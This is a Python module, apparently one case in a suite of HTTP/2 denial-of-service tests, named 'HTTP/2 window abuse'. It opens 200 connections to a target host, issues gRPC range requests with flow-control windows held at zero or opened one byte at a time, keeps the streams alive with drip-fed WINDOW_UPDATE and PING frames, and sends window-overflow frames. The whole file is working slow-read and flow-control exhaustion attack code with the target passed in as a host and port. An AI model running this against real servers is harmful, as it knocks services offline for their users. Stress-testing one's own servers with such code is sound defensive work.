"""Answers of HTTP/2 that are asked for and may not be sent, or a byte at a time: windows that stay
zero, or that open by one; and windows that overflow."""
import itertools
import struct

import wire
from slow_readers import KEY, VALUE_BYTES, store

NAME = "HTTP/2 window abuse"
SIZE = 200
CALLS = 8
ONE = struct.pack(">I", 1)


def message():
    """RangeRequest of KEY, serializable."""
    field = b"\x0a" + bytes([len(KEY)]) + KEY.encode() + b"\x38\x01"
    return b"\0" + struct.pack(">I", len(field)) + field


def opening(window):
    out = [wire.PREFACE, wire.settings((4, window))]
    for n in range(1, 2 * CALLS, 2):
        out.append(wire.headers(n, wire.grpc_head()))
        out.append(wire.frame(wire.DATA, wire.END_STREAM, n, message()))
    return b"".join(out)


def drip(turn):
    n = 2 * (turn % CALLS) + 1
    return wire.frame(wire.WINDOW, 0, n, ONE) + wire.frame(wire.PING, wire.ACK, 0, bytes(8))


def attack(host, port, stop, log):
    log(f"{SIZE} connections with {CALLS} answers of {VALUE_BYTES} bytes and windows of 0 and 1")
    store(host, port)
    firsts = itertools.cycle((opening(0), opening(1),
                              opening(0) + wire.frame(wire.WINDOW, 0, 1,
                                                      struct.pack(">I", 0x7fffffff)) * 2))
    return wire.Crowd(host, port, SIZE, lambda: next(firsts), drip).run(stop, 0.5)
